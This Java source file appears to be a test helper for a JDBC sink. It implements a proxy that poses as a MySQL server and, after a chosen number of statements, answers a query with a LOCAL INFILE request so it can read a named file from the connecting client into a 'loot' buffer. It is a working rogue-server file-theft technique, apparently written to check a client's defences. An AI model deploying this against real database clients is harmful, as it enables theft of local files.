package dev.millrace.sink.target.jdbc;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * A server that is a real one to its clients, but answers one of their statements with the request to send it a file,
 * as the protocol of MySQL lets any server do at any time ("LOCAL INFILE Request", packet 0xFB).
 */
final class HostileServer implements AutoCloseable {
    private static final byte COM_QUERY = 3;
    private static final byte LOCAL_INFILE = (byte) 0xFB;

    private final ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    private final int realPort;
    private final String file;
    private final ByteArrayOutputStream loot = new ByteArrayOutputStream();
    private final List<Socket> sockets = new ArrayList<>();
    private int statementsLeft;
    private String attacked = "";

    /** Asks for the file instead of an answer to the statement that comes after so many others. */
    HostileServer(int realPort, int statementsBefore, String file) throws IOException {
        this.realPort = realPort;
        this.statementsLeft = statementsBefore;
        this.file = file;
        daemon(this::accept);
    }

    int port() {
        return listener.getLocalPort();
    }

    /** The statement that was answered by the request, empty where it never came to that. */
    synchronized String attacked() {
        return attacked;
    }

    /** All that clients have sent after they were asked for the file. */
    synchronized String loot() {
        return loot.toString(StandardCharsets.UTF_8);
    }

    private void accept() {
        try {
            while (true) {
                Socket client = listener.accept();
                Socket server = new Socket(InetAddress.getLoopbackAddress(), realPort);
                client.setTcpNoDelay(true);
                server.setTcpNoDelay(true);
                synchronized (this) {
                    sockets.add(client);
                    sockets.add(server);
                }
                daemon(() -> up(client, server));
                daemon(() -> down(server, client));
            }
        } catch (IOException e) {
            // closed
        }
    }

    /** A packet is its length in three bytes, its number, and so many bytes. */
    private void up(Socket client, Socket server) {
        try (client;
                server) {
            DataInputStream in = new DataInputStream(client.getInputStream());
            while (true) {
                byte[] header = in.readNBytes(4);
                if (header.length < 4) {
                    return;
                }
                byte[] body = in.readNBytes(length(header));
                if (body.length > 0 && header[3] == 0 && body[0] == COM_QUERY && strikes(body)) {
                    rob(client, in);
                    return;
                }
                server.getOutputStream().write(header);
                server.getOutputStream().write(body);
            }
        } catch (IOException e) {
            // one of them has left
        }
    }

    private synchronized boolean strikes(byte[] query) {
        if (statementsLeft-- != 0) {
            return false;
        }
        attacked = new String(query, 1, query.length - 1, StandardCharsets.UTF_8);
        return true;
    }

    /** Takes whatever comes, to the empty packet that ends a file, and thanks for it. */
    private void rob(Socket client, DataInputStream in) throws IOException {
        OutputStream out = client.getOutputStream();
        byte[] name = file.getBytes(StandardCharsets.UTF_8);
        out.write(new byte[] {(byte) (name.length + 1), 0, 0, 1, LOCAL_INFILE
        }); // the first answer to a packet of number 0
        out.write(name);
        out.flush();
        byte[] header;
        do {
            header = in.readNBytes(4);
            byte[] content = in.readNBytes(header.length < 4 ? 0 : length(header));
            synchronized (this) {
                loot.writeBytes(content);
            }
        } while (header.length == 4 && length(header) > 0);
        if (header.length == 4) {
            out.write(new byte[] {7, 0, 0, (byte) (header[3] + 1), 0, 0, 0, 2, 0, 0, 0});
            out.flush();
        }
    }

    private static int length(byte[] header) {
        return (header[0] & 0xFF) | (header[1] & 0xFF) << 8 | (header[2] & 0xFF) << 16;
    }

    private void down(Socket server, Socket client) {
        try (client;
                server) {
            server.getInputStream().transferTo(client.getOutputStream());
        } catch (IOException e) {
            // one of them has left
        }
    }

    private static void daemon(Runnable action) {
        Thread thread = new Thread(action, "hostile-server");
        thread.setDaemon(true);
        thread.start();
    }

    @Override
    public synchronized void close() {
        try {
            listener.close();
            for (Socket socket : sockets) {
                socket.close();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
